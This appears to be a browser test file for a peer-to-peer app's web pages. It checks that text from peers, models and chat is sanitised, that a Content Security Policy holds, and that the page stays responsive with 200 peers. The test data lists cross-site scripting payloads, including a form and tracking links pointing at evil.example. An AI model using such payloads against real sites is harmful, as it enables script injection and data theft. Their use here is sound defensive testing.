/** Strings that others choose, and a large swarm, on the real pages. */
import { availableParallelism, loadavg } from 'node:os'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createCleanup } from '../integration/p2p-helpers.ts'
import { hasChromium, keepScreenshot, startBrowser, type TestBrowser } from './browser.ts'
import { startToldNode, toldModel, toldPeer } from './told-node.ts'

const cleanup = createCleanup()
let browser: TestBrowser

const attacks = [
  '<img src=x onerror="window.stolen=1">',
  '<script>window.stolen=1</script>',
  '<svg onload="window.stolen=1"><animate onbegin="window.stolen=1" attributeName="x"/></svg>',
  '[click](javascript:window.stolen=1) [data](data:text/html,<script>window.stolen=1</script>)',
  '<a href="javascript:window.stolen=1">a</a><iframe srcdoc="<script>parent.stolen=1</script>"></iframe>',
  '<form action="https://evil.example"><input name=token><button>go</button></form>',
  '<style>body{display:none}</style><math><mtext><img src=x onerror=window.stolen=1></mtext></math>',
  '![track](https://evil.example/pixel.png) <link rel=stylesheet href=https://evil.example/x.css>',
]
const attack = attacks.join('\n\n')

describe.skipIf(!hasChromium)('the pages', () => {
  beforeAll(async () => {
    browser = await startBrowser(cleanup)
  })
  afterAll(() => cleanup.run())

  it('run nothing that a model, a peer or a petname says', async () => {
    const peer = { ...toldPeer(1, { start: 0, end: 4 }), version: attack, state: attack }
    const model = { ...toldModel(4, [peer]), name: attack }
    const node = await startToldNode(cleanup, { peers: [peer], models: [model], text: attack })
    const page = await browser.open(node.url)
    await page.locator('.hero').waitFor()
    await page.evaluate(() => {
      location.hash = '#/peers'
    })
    await page.locator('.peer').waitFor()
    await page.evaluate(() => {
      location.hash = '#/chat'
    })
    await page.getByLabel('Message').fill(attack)
    await page.keyboard.press('Enter')
    await page.locator('.markdown').waitFor()
    const found = await page.evaluate(() => ({
      stolen: (globalThis as { stolen?: unknown }).stolen,
      tags: [...document.querySelectorAll('.message-model *')].map((element) => element.tagName.toLowerCase()),
      links: [...document.querySelectorAll('.markdown a')].map((link) => link.getAttribute('href')),
    }))
    expect(found.stolen).toBeUndefined()
    for (const tag of ['script', 'img', 'svg', 'iframe', 'form', 'style', 'math', 'link'])
      expect(found.tags).not.toContain(tag)
    expect(found.links.filter((link) => link !== null)).toEqual([])
    await keepScreenshot(page, 'hostile')
    // Not even a refusal by the browser: nothing of it came that far.
    expect(page.complaints).toEqual([])
  })

  it('would be stopped by the browser even if the text were not cleaned', async () => {
    const node = await startToldNode(cleanup, { peers: [], models: [] })
    const page = await browser.open(node.url)
    const refused = await page.evaluate(async () => {
      const errors: string[] = []
      addEventListener('securitypolicyviolation', (event) => errors.push(event.effectiveDirective))
      try {
        document.body.innerHTML = '<img src=x onerror="window.stolen=1">'
      } catch (error) {
        errors.push((error as Error).name)
      }
      await fetch('https://evil.example/').catch(() => {})
      const script = document.createElement('style')
      script.textContent = 'body { display: none }'
      document.head.append(script)
      await new Promise((resolve) => setTimeout(resolve, 50))
      return errors
    })
    expect(refused).toEqual(expect.arrayContaining(['TypeError', 'connect-src', 'style-src-elem']))
  })

  it('stay fluid with 200 peers and 80 layers that change all the time', async () => {
    const peers = Array.from({ length: 200 }, (_, index) => {
      const start = (index * 7) % 76
      return toldPeer(index + 1, { start, end: start + 4 })
    })
    const node = await startToldNode(cleanup, { peers, models: [toldModel(80, peers)] })
    const page = await browser.open(node.url)
    await page.locator('.hero').waitFor()
    await page.evaluate(() => {
      location.hash = '#/coverage'
    })
    await page.getByRole('button', { name: /Show \d+ more/ }).click()
    await page.locator('.map-rows li').nth(199).waitFor({ state: 'attached' })
    let turn = 0
    const storm = setInterval(() => {
      turn++
      const moved = peers.map((peer, index) => {
        return index % 10 === turn % 10
          ? toldPeer(index + 1, { start: (index * 7 + turn) % 76, end: ((index * 7 + turn) % 76) + 4 })
          : peer
      })
      for (const peer of moved.slice(0, 5)) node.events.publish({ type: 'peer', data: peer })
      node.events.publish({ type: 'coverage', data: toldModel(80, moved) })
    }, 250)
    const devtools = await page.context().newCDPSession(page)
    await devtools.send('Performance.enable', { timeDomain: 'threadTicks' })
    const computedS = async () => {
      const { metrics } = await devtools.send('Performance.getMetrics')
      return metrics.find(({ name }) => name === 'TaskDuration')?.value ?? Number.NaN
    }
    const beforeS = await computedS()
    const rates: number[] = []
    // The best of three seconds: other tests compute on the same two cores.
    for (let second = 0; second < 3; second++) rates.push(await page.evaluate(countFrames))
    clearInterval(storm)
    const frames = rates.reduce((sum, rate) => sum + rate, 0)
    // What the page itself computes leaves room for that many, however busy the machine is.
    expect(frames / ((await computedS()) - beforeS)).toBeGreaterThanOrEqual(30)
    await keepScreenshot(page, 'coverage-large')
    const isQuiet = (loadavg()[0] ?? 0) <= 3 * availableParallelism()
    if (isQuiet) expect(Math.max(...rates)).toBeGreaterThanOrEqual(30)
    expect(page.complaints).toEqual([])
  })
})

/** Frames in one second, scrolling all the while. */
async function countFrames(): Promise<number> {
  const startMs = performance.now()
  let frames = 0
  while (performance.now() - startMs < 1_000) {
    await new Promise(requestAnimationFrame)
    scrollTo(0, (frames * 8) % 2_000)
    frames++
  }
  return frames
}
